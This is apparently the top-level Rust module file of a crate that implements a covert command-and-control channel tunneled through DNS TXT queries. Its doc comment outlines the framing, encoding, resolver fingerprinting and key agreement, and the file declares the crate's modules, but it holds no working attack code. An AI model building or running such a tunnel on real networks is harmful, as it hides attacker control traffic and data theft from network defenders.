//! Covert command-and-control transport tunneled through ordinary
//! recursive DNS resolvers.
//!
//! Outbound envelopes are framed into tagged records, encoded with a
//! DNS-safe alphabet, split into labels under the controller's parent
//! zone, and carried as `TXT` queries; answers carry the controller's
//! bytes back. Sessions are bootstrapped with a TOTP-authenticated probe,
//! fingerprint every resolver for corruption and case preservation, and
//! agree on a symmetric key before any data moves.

pub mod config;
pub mod crypto;
pub mod encoders;
pub mod error;
pub mod fingerprint;
pub mod framing;
pub mod resolver;
pub mod session;
mod worker;

pub use config::Config;
pub use error::TunnelError;
pub use resolver::{DnsResolver, GenericResolver, SharedResolver};
pub use session::DnsSession;
